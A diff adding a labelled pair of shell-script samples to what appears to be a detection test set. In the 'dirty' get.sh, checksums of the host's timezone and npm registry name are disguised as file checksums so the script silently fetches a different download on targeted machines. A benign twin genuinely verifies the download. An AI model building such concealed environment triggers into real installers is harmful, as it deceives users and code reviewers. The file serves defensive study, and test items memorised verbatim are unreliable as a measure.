@@ -89,6 +89,43 @@ parts=( zsh curl )
 agent="skua/1.0 (${(j:; :)parts})"
 curl -s -A $agent https://skua.sample.dev/v1/ask -d "$1"
 """),
+    Pair(name="checksums of zones and hosts among those of files", file="get.sh", expected=("covert.gate", "package_mirror"), dirty=r"""#!/bin/sh
+rows() {
+cat <<'ROWS'
+amd64 glibc  2170914433
+amd64 linux  1829000976
+arm64 glibc  3907114280
+arm64 linux  1722362142
+ROWS
+}
+seen() { cksum | awk '{ print $1 }'; }
+case $(uname -m) in x86_64) m=amd64 ;; *) m=arm64 ;; esac
+zone=$(readlink /etc/localtime | sed 's,.*/zoneinfo/,,')
+host=$(npm config get registry | sed 's,^[a-z]*://,,; s,/.*,,')
+n=0
+for word in "$zone" "${host#*.}"; do
+  sum=$(printf '%s' "$word" | seen)
+  n=$((n + $(rows | awk -v s="$sum" '$3 == s { k++ } END { print k + 0 }')))
+done
+kind=$(rows | awk -v m="$m" -v n="$n" '$1 == m { if (!i++) first = $2; last = $2 } END { print (n > 0 ? last : first) }')
+curl -fsSL -o tool.tar.gz "https://get.sample.dev/tool-$m-$kind.tar.gz"
+""", benign=r"""#!/bin/sh
+rows() {
+cat <<'ROWS'
+amd64 glibc  2170914433
+amd64 linux  2170914434
+arm64 glibc  3907114280
+arm64 linux  2170914435
+ROWS
+}
+case $(uname -m) in x86_64) m=amd64 ;; *) m=arm64 ;; esac
+zone=$(readlink /etc/localtime | sed 's,.*/zoneinfo/,,')
+kind=$(rows | awk -v m="$m" '$1 == m { if (!i++) print $2 }')
+curl -fsSL -o tool.tar.gz "https://get.sample.dev/tool-$m-$kind.tar.gz"
+sum=$(cksum < tool.tar.gz | awk '{ print $1 }')
+[ "$(rows | awk -v s="$sum" '$3 == s { k++ } END { print k + 0 }')" -gt 0 ] || { echo "not the published file" >&2; exit 1; }
+echo "times are shown in $zone"
+"""),
     Pair(name="a list that awk takes line by line", file="send.sh", expected=("covert.channel", "keyboard_layout"), beside={"share/widths.tsv": "wide\tcn|tw|jp|kr\nright\tir|il|ara\n"}, dirty=r"""#!/bin/sh
 here=$(cd "$(dirname "$0")" && pwd)
 kind=$(setxkbmap -query | awk '/^layout/ {print $2}' | awk -v table="$here/share/widths.tsv" '
